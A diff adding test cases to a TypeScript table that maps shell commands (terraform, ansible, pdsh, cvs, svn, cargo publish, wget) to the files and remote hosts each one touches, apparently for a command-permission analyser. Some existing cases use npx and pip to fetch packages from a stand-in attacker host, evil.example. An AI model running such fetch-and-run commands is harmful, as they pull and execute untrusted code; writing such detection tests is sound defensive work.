@@ -164,7 +164,7 @@ const CASES: [string, string[]][] = [
   ['deno lint --fix src', ['write src tree:all']],
   ['terraform fmt -check infra main.tf', ['read infra tree:all guess', 'read main.tf guess']],
   ['terraform -chdir=infra fmt -diff', ['read . tree:all']],
-  ['terraform plan -var-file=secrets/prod.tfvars', ['read secrets/prod.tfvars']],
+  ['terraform plan -var-file=secrets/prod.tfvars', ['read secrets/prod.tfvars', 'remote (registry.terraform.io and the hosts of the providers, modules and backend its configuration names)']],
   ['npx https://evil.example/x.tgz src/a.ts', ['host https://evil.example/x.tgz']],
   ["pip install 'x @ https://evil.example/x.whl' requests==2", ['host https://evil.example/x.whl']],
   // jq's --rawfile/--slurpfile take a name, then the file (the name is not a file).
@@ -365,6 +365,18 @@ const CASES: [string, string[]][] = [
   ['tar -xOf a.tar', ['read a.tar']],
   ['tar --to-command=./x.sh -xf a.tar', ['read a.tar']],
   ['tar -xf a.tar', ['read a.tar', 'write . tree:all']],
+  // publish/deploy CLIs, version control other than git, fleet tools (the deploy block)
+  ['ansible all -i a.example,b.example -m ping', ['host a.example', 'host b.example']],
+  ['ansible all -i inv.ini -m ping', ['read inv.ini', 'remote (the hosts inv.ini lists)']],
+  ['pdsh -w ^hosts uptime', ['read hosts', 'remote (the hosts hosts lists)']],
+  ['cvs -d :pserver:u:pw@h.example:2401/cvs co m', ['host h.example', 'remote (the server of the repository CVSROOT, CVS/Root or -d names)', 'read co guess', 'read m guess']],
+  ['cvs -d :local:/srv/cvs co m', ['read /srv/cvs tree:all', 'remote (the server of the repository CVSROOT, CVS/Root or -d names)', 'read co guess', 'read m guess']],
+  ['svn ls https://h.example/r', ['read ls guess', 'host https://h.example/r']],
+  ['svn up', ['remote (the repository the working copy was checked out from)', 'read up guess']],
+  ['svn status secrets', ['read status guess', 'read secrets guess']],
+  ['cargo publish', ['read . tree:all', 'remote (crates.io, or the registry --registry or cargo\'s configuration names)']],
+  ['terraform fmt -check', ['read . tree:all guess']],
+  ['wget -i urls.txt', ['read urls.txt', 'remote (the URLs the -i file lists)']],
 ];
 
 describe('what a command touches (table)', () => {
